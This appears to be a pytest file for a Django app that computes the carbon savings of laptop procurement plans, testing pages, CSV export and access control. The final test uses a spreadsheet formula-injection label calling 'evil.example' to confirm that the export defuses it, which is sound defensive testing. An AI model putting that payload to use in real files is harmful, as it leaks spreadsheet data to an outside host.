"""The impact pages: who sees what, and what they show."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from cfit.impact.factorsets import (
    SHIPPED_FILE,
    factors_of,
    read_data,
    store_factorset,
)
from cfit.impact.models import FactorSet, Recompute, Scenario, StoredReportImpact
from cfit.monitoring.tests.factories import (
    PurchaseLineFactory,
    PurchaseReportFactory,
    buyer_group_of,
)

pytestmark = pytest.mark.django_db

PLAN = {
    "a-label": "All new",
    "a-product_group": "laptop",
    "a-quantity": "1000",
    "a-share_refurbished_percent": "0",
    "a-lifetime_years": "6",
    "a-country": "NL",
    "b-label": "Half refurbished",
    "b-product_group": "laptop",
    "b-quantity": "1000",
    "b-share_refurbished_percent": "50",
    "b-lifetime_years": "4",
    "b-country": "NL",
    "c-label": "Scenario C",
    "c-country": "NL",
}


def new_factorset(version="2026-1", laptop_gwp="200"):
    data = read_data(SHIPPED_FILE)
    data["version"] = version
    data["products"][0]["gwp_kg"] = laptop_gwp
    return store_factorset(data)


def test_the_methodology_page_shows_the_formulas_the_factors_and_a_live_example(
    client,
):
    response = client.get(reverse("impact:methodology"))
    assert response.status_code == 200
    page = response.content.decode()
    assert "L / L0(p) − r(c)" in page
    assert "90,500" in page  # worked example 1, computed live
    assert "36,540" in page  # worked example 2
    assert "Boavizta" in page and "ADEME" in page
    assert "Affero" in page
    assert "2025-1" in page


def test_the_methodology_page_of_an_older_factorset_uses_its_factors(client):
    new_factorset(laptop_gwp="200")
    response = client.get(reverse("impact:methodology"), {"factorset": "2026-1"})
    assert "100,000" in response.content.decode()  # 1000 × 200 × 0.5
    assert "not the current FactorSet" in response.content.decode()


def test_an_unknown_factorset_is_not_found(client):
    assert client.get(reverse("impact:factorset", args=["1999-1"])).status_code == 404


def test_the_factorset_page_lists_every_country_factor(client):
    response = client.get(reverse("impact:factorset", args=["2025-1"]))
    assert response.status_code == 200
    assert "Netherlands" in response.content.decode()
    assert response.content.decode().count("<tr>") > 130


def test_the_planner_compares_scenarios_side_by_side(client):
    response = client.get(reverse("impact:planner"), PLAN)
    page = response.content.decode()
    assert response.status_code == 200
    assert "All new" in page and "Half refurbished" in page
    assert "90,500" in page  # 1000 new laptops kept 6 years
    # 500 new kept 4 years save 0; 500 refurbished save 500 × 181 × 0.87.
    assert "78,735" in page
    assert "<svg" in page


def test_a_scenario_with_a_wrong_quantity_says_so_and_shows_no_figures(client):
    response = client.get(reverse("impact:planner"), {**PLAN, "a-quantity": "0"})
    assert "Some values are missing or wrong" in response.content.decode()
    assert "<svg" not in response.content.decode()


def test_a_half_filled_optional_scenario_asks_for_the_rest(client):
    response = client.get(reverse("impact:planner"), {**PLAN, "c-quantity": "10"})
    assert response.context["forms"][2].errors


def test_the_planner_exports_its_scenarios_as_csv(client):
    response = client.get(reverse("impact:planner-export"), PLAN)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["scenario"] for row in rows] == ["All new", "Half refurbished"]
    assert float(rows[0]["saving_gwp_kg"]) == pytest.approx(90_500)
    assert rows[0]["factorset"] == "2025-1"


def test_a_procurer_saves_a_plan_for_the_organisation(client, procurer_a):
    client.force_login(procurer_a)
    response = client.post(reverse("impact:planner"), {**PLAN, "title": "Laptops 2027"})
    scenario = Scenario.objects.get()
    assert response.status_code == 302
    assert scenario.organisation.slug == "city-of-alphen"
    assert [o.label for o in scenario.options.all()] == ["All new", "Half refurbished"]
    detail = client.get(reverse("impact:scenario", args=[scenario.pk]))
    assert "90,500" in detail.content.decode()
    export = client.get(reverse("impact:scenario-export", args=[scenario.pk]))
    assert "Half refurbished" in export.content.decode()


def test_a_plan_with_bad_values_is_not_saved(client, procurer_a):
    client.force_login(procurer_a)
    client.post(
        reverse("impact:planner"), {**PLAN, "a-lifetime_years": "99", "title": "X"}
    )
    assert not Scenario.objects.exists()


def test_someone_without_an_organisation_cannot_save_a_plan(client, outsider):
    client.force_login(outsider)
    response = client.post(reverse("impact:planner"), {**PLAN, "title": "X"})
    assert response.status_code == 404
    assert not Scenario.objects.exists()


def test_another_organisation_cannot_see_export_or_delete_a_plan(
    client, procurer_a, procurer_b
):
    client.force_login(procurer_a)
    client.post(reverse("impact:planner"), {**PLAN, "title": "Laptops 2027"})
    scenario = Scenario.objects.get()
    client.force_login(procurer_b)
    for name in ("impact:scenario", "impact:scenario-export"):
        assert client.get(reverse(name, args=[scenario.pk])).status_code == 404
    assert (
        client.post(reverse("impact:scenario-delete", args=[scenario.pk])).status_code
        == 404
    )
    assert Scenario.objects.exists()


def test_an_organisations_figures_are_for_its_members_and_coordinator(
    client, organisation_a, procurer_a, procurer_b, coordinator
):
    report = PurchaseReportFactory(organisation=organisation_a)
    PurchaseLineFactory(report=report, quantity=1000, expected_lifetime_years=6)
    url = reverse("impact:organisation", args=[organisation_a.slug])
    client.force_login(procurer_b)
    assert client.get(url).status_code == 404
    client.force_login(procurer_a)
    response = client.get(url)
    assert "90,500" in response.content.decode()
    client.force_login(coordinator)
    assert client.get(url).status_code == 404
    buyer_group_of(coordinator.memberships.get().organisation, organisation_a)
    assert client.get(url).status_code == 200


def test_a_reports_figures_flag_a_missing_lifetime_line_by_line(
    client, organisation_a, procurer_a, procurer_b
):
    report = PurchaseReportFactory(organisation=organisation_a)
    PurchaseLineFactory(report=report, quantity=12, expected_lifetime_years=None)
    url = reverse("impact:report", args=[report.pk])
    client.force_login(procurer_b)
    assert client.get(url).status_code == 404
    client.force_login(procurer_a)
    page = client.get(url).content.decode()
    assert "lifetime assumed" in page
    assert "12 devices have no expected lifetime" in page


def test_a_groups_figures_are_hidden_from_outsiders(
    client, coordinating_organisation, organisation_a, outsider, procurer_a
):
    group = buyer_group_of(coordinating_organisation, organisation_a)
    url = reverse("impact:group", args=[group.slug])
    client.force_login(outsider)
    assert client.get(url).status_code == 404
    client.force_login(procurer_a)
    assert client.get(url).status_code == 200


def test_the_pact_figures_wait_for_three_organisations(client):
    for _ in range(2):
        PurchaseLineFactory(report__status="accepted", quantity=1000)
    response = client.get(reverse("impact:pact"))
    assert "at least 3 organisations" in response.content.decode()
    PurchaseLineFactory(
        report__status="submitted", quantity=1000, expected_lifetime_years=6
    )
    PurchaseLineFactory(report__status="draft", quantity=99999)  # not counted
    response = client.get(reverse("impact:pact"))
    assert response.context["impact"].total.devices == 3000


def test_the_secretariat_alone_compares_factorsets(client, procurer_a, secretariat):
    new_factorset()
    url = reverse("impact:compare", args=["2026-1"])
    client.force_login(procurer_a)
    assert client.get(url).status_code == 404
    assert (
        client.post(reverse("impact:make-current", args=["2026-1"])).status_code == 404
    )
    client.force_login(secretariat)
    response = client.get(url)
    assert response.status_code == 200
    assert "laptop: gwp_kg" in response.content.decode()


def test_making_a_factorset_current_keeps_the_older_figures_by_version(
    client, secretariat, django_capture_on_commit_callbacks
):
    PurchaseLineFactory(
        report__status="accepted", quantity=1000, expected_lifetime_years=Decimal(6)
    )
    old = FactorSet.objects.get(version="2025-1")
    client.force_login(secretariat)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("impact:recompute", args=["2025-1"]))
    new_factorset(laptop_gwp="200")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("impact:make-current", args=["2026-1"]))
    new = FactorSet.objects.get(version="2026-1")
    assert new.is_current and new.is_locked
    assert not FactorSet.objects.get(pk=old.pk).is_current
    stored = {
        s.factorset.version: s.figures["saving"]["gwp_kg"]
        for s in StoredReportImpact.objects.select_related("factorset")
    }
    assert stored == {"2025-1": pytest.approx(90_500), "2026-1": pytest.approx(100_000)}
    assert Recompute.objects.filter(status="done").count() == 2
    page = client.get(reverse("impact:factorset", args=["2025-1"])).content.decode()
    assert "90,500" in page


def test_the_recompute_progress_is_polled_by_the_secretariat_only(
    client, secretariat, procurer_a, django_capture_on_commit_callbacks
):
    PurchaseLineFactory(report__status="accepted")
    client.force_login(secretariat)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("impact:recompute", args=["2025-1"]))
    recompute = Recompute.objects.get()
    url = reverse("impact:recompute-progress", args=[recompute.pk])
    response = client.get(url, headers={"HX-Request": "true"})
    assert "1 of 1 reports" in response.content.decode()
    assert "hx-trigger" not in response.content.decode()  # done: polling stops
    client.force_login(procurer_a)
    assert client.get(url, headers={"HX-Request": "true"}).status_code == 404


def test_a_failed_recompute_says_so_and_keeps_the_older_figures(
    client, secretariat, monkeypatch, django_capture_on_commit_callbacks
):
    from cfit.impact import tasks

    PurchaseLineFactory(report__status="accepted")

    def broken(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(tasks, "impact_by", broken)
    client.force_login(secretariat)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("impact:recompute", args=["2025-1"]))
    recompute = Recompute.objects.get()
    assert recompute.status == "failed"
    assert "database went away" in recompute.error
    assert not StoredReportImpact.objects.exists()


def test_the_planner_answers_htmx_with_its_results_only(client):
    response = client.get(
        reverse("impact:planner"), PLAN, headers={"HX-Request": "true"}
    )
    page = response.content.decode()
    assert page.lstrip().startswith('<div id="results"')
    assert "90,500" in page


def test_the_planner_compares_two_lifetimes_with_one_common_baseline(client):
    """Keeping the same laptops six years instead of four saves a third of them."""
    plan = {
        **PLAN,
        "a-label": "Four years",
        "a-lifetime_years": "4",
        "b-label": "Six years",
        "b-share_refurbished_percent": "0",
        "b-lifetime_years": "6",
    }
    response = client.get(reverse("impact:planner"), plan)
    four, six = response.context["results"]
    assert four.compared.gwp_kg == 0
    # The baseline scaled to 6,000 device-years buys 1,500 laptops: 500 more.
    laptop = factors_of(FactorSet.objects.current()).products["laptop"]
    assert six.compared.gwp_kg == pytest.approx(500 * laptop.embodied.gwp_kg)
    assert six.compared.gwp_kg > 0
    page = response.content.decode()
    assert "saving against Four years" in page
    # The chart has a titled vertical axis with values, and each bar its value.
    assert "Greenhouse gases (kg CO2e)" in page and 'class="impact-chart__tick"' in page
    assert page.count('class="impact-chart__value"') == 4


def test_the_planner_export_writes_a_formula_as_a_scenario_name_as_text(client):
    plan = {**PLAN, "a-label": '=HYPERLINK("http://evil.example/?"&A1,"x")'}
    response = client.get(reverse("impact:planner-export"), plan)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["scenario"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert float(rows[0]["saving_gwp_kg"]) == pytest.approx(90_500)
